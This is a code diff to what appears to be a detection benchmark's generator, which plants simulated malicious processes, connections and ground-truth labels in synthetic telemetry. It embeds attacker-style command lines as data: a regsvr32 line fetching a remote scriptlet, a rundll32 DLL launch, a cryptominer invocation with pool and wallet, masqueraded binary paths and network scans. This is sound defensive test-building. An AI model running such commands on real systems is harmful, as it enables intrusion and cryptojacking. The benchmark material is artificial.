@@ -12,7 +12,7 @@ from dataclasses import dataclass, field
 from datetime import datetime, timedelta
 from typing import Any
 
-from bench.score.catalogue import ROLE_BY_NAME, Proc
+from bench.score.catalogue import EXPLORER, ROLE_BY_NAME, Proc
 
 WINDOW_S = 600
 
@@ -105,7 +105,7 @@ class Planter:
         host = self.host(role, "backdoor")
         if host.os == "windows":
             path = rf"C:\Users\{host.user.split(chr(92))[-1]}\AppData\Roaming\Microsoft\Windows\svcupd.exe"
-            key = self.proc(host, "svcupd.exe", path, f'"{path}" -k', parent=("explorer.exe", r"C:\Windows\explorer.exe"))
+            key = self.proc(host, "svcupd.exe", path, f'"{path}" -k', parent=EXPLORER)
         else:
             path = "/tmp/.X11-unix/.Xsrv"
             key = self.proc(host, ".Xsrv", path, path, parent=("bash", "/usr/bin/bash"))
@@ -171,15 +171,17 @@ class Planter:
         if host.os == "windows":
             path = rf"C:\Users\{host.user.split(chr(92))[-1]}\Downloads\netscan.exe"
             key = self.proc(host, "netscan.exe", path, f'"{path}" /hide /range:10.0.0.0-10.255.255.255 /auto:scan.xml',
-                            parent=("explorer.exe", r"C:\Windows\explorer.exe"))
+                            parent=EXPLORER)
             ports = (445, 3389, 135, 139, 5985)
         else:
             path = "/tmp/.s/scan"
             key = self.proc(host, "scan", path, f"{path} -p22,80,443,3306,5432,6379 10.0.0.0/8", "www-data")
             ports = (22, 80, 443, 3306, 5432, 6379)
         targets = self.rng.sample([h for h in self.all_hosts if h.h != host.h], min(180, len(self.all_hosts) - 1))
-        ips = [t.ip for t in targets] + [f"10.{self.rng.randint(100, 250)}.{self.rng.randint(0, 255)}."
-                                         f"{self.rng.randint(1, 254)}" for _ in range(max(60, 240 - len(targets)))]  # dead space
+        # and unused address space, where SYNs go unanswered
+        dead = [f"10.{self.rng.randint(100, 250)}.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
+                for _ in range(max(60, 240 - len(targets)))]
+        ips = [t.ip for t in targets] + dead
         for i, ip in enumerate(ips):
             for port in self.rng.sample(ports, 2):
                 state = "SYN_SENT" if self.rng.random() < 0.6 else self.rng.choice(("CLOSE", "TIME_WAIT"))
@@ -194,7 +196,8 @@ class Planter:
         args = f"-o stratum+tcp://{pool}:{port} -u {wallet} -p x --donate-level 1 -k --cpu-max-threads-hint 75"
         if host.os == "windows":
             path = r"C:\Users\Public\Libraries\svchost.exe"  # a miner masquerading under a system name
-            key = self.proc(host, "svchost.exe", path, f"{path} {args}", parent=("cmd.exe", r"C:\Windows\System32\cmd.exe"))
+            key = self.proc(host, "svchost.exe", path, f"{path} {args}",
+                            parent=("cmd.exe", r"C:\Windows\System32\cmd.exe"))
         else:
             path = "/dev/shm/.x/kthreadd"
             key = self.proc(host, "kthreadd", path, f"{path} {args}", "jenkins", ("bash", "/usr/bin/bash"))
@@ -212,7 +215,8 @@ class Planter:
         path = rf"C:\Windows\System32\{binary}"
         cmd = (rf"rundll32.exe C:\Users\{user_dir}\AppData\Local\Temp\upd.dll,DllRegisterServer"
                if binary == "rundll32.exe" else rf"regsvr32.exe /s /n /u /i:http://{target.ip}:8444/a.sct scrobj.dll")
-        key = self.proc(host, binary, path, cmd, parent=("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"))
+        key = self.proc(host, binary, path, cmd,
+                        parent=("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"))
         for i in range(3):
             self.conn(host, key, 2, 100 + i * 90 + self.rng.uniform(0, 30), 4.0, target.ip, 8444)
         self.truth(host, key, f"{target.ip}:8444", f"lolbin_{binary.split('.')[0]}", ["T1218"])
@@ -247,7 +251,7 @@ class Planter:
     def implant(self, role: str) -> None:
         host = self.host(role, "implant")
         path = r"C:\Windows\System32\notepad.exe"
-        key = self.proc(host, "notepad.exe", path, "notepad.exe", parent=("explorer.exe", r"C:\Windows\explorer.exe"))
+        key = self.proc(host, "notepad.exe", path, "notepad.exe", parent=EXPLORER)
         target = self.rng.choice([h for h in self.all_hosts if h.h != host.h])
         for w in range(3):
             for _ in range(2):
@@ -270,8 +274,9 @@ class Planter:
                 self.conn(host, key, w, t, 2.0, ip, 443, state="TIME_WAIT")
         self.out.benign.append({"name": "gap_case", "hosts": [host.name], "process_identity": [self.ident(host, key)],
                                 "remote": f"{ip}:443",
-                                "why": "two connections in each of three collection windows 4 h apart: the gaps are "
-                                       "whole multiples of the 120 s spacing, so folding reads them as missed check-ins"})
+                                "why": "two connections in each of three collection windows 4 h apart: the gaps "
+                                       "are whole multiples of the 120 s spacing, so folding reads them as missed "
+                                       "check-ins"})
 
     def resolver(self, host: Host) -> str:
         dcs = self.by_role["dc"]
